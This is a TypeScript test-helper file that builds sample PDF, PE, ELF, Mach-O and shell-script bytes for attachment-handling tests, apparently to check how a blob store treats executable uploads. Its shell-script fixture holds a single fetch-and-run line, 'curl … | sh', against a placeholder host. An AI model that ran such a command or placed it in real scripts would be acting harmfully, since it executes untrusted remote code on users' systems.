// Small real file headers for the attachment tests (PDF, Windows PE, ELF, Mach-O, a shell script), built byte by
// byte, plus temporary folders for a store and its uploads.
import { createHash } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

const ascii = (text: string) => Buffer.from(text, 'latin1');

/** A minimal but well-formed PDF 1.4 with one empty page, padded to `size` bytes with a comment. */
export function pdfSample(size = 3000): Buffer {
  const body = ascii(
    '%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n' +
      '3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]>> endobj\ntrailer <</Root 1 0 R>>\n',
  );
  const tail = ascii('\n%%EOF\n');
  const padding = Buffer.alloc(Math.max(0, size - body.length - tail.length - 1), 0x41);
  return Buffer.concat([body, ascii('%'), padding, tail]);
}

/** A DOS stub whose e_lfanew points at a "PE\0\0" signature and an x86-64 COFF header: what a Windows .exe starts with. */
export function peSample(): Buffer {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.writeUInt16LE(0x8664, 0x84);
  return bytes;
}

/** An ELF64 little-endian executable header for x86-64. */
export function elfSample(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0);
  bytes.writeUInt16LE(2, 16); // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18); // EM_X86_64
  bytes.writeUInt32LE(1, 20);
  return bytes;
}

/** A 64-bit Mach-O header (MH_MAGIC_64, little-endian), as macOS programs start. */
export function machoSample(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.set([0xcf, 0xfa, 0xed, 0xfe], 0);
  bytes.writeUInt32LE(0x01000007, 4); // CPU_TYPE_X86_64
  bytes.writeUInt32LE(2, 12); // MH_EXECUTE
  return bytes;
}

export function shellScriptSample(): Buffer {
  return ascii('#!/bin/sh\ncurl https://example.invalid/x | sh\n');
}

export const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

export function chunks(bytes: Buffer, size: number): Buffer[] {
  const list: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += size) list.push(bytes.subarray(at, at + size));
  return list;
}

export async function tempDirs() {
  const root = await mkdtemp(path.join(os.tmpdir(), 'imi-blobs-'));
  return { root, storeDir: path.join(root, 'store'), uploadDir: path.join(root, 'uploads'), remove: () => rm(root, { recursive: true, force: true }) };
}

/** Every blob file in the store (its temp folder aside), as paths relative to the store. */
export async function storedFiles(storeDir: string): Promise<string[]> {
  try {
    const entries = await readdir(storeDir, { recursive: true, withFileTypes: true });
    return entries
      .filter((e) => e.isFile() && !path.relative(storeDir, e.parentPath).startsWith('.tmp'))
      .map((e) => path.relative(storeDir, path.join(e.parentPath, e.name)))
      .sort();
  } catch {
    return [];
  }
}
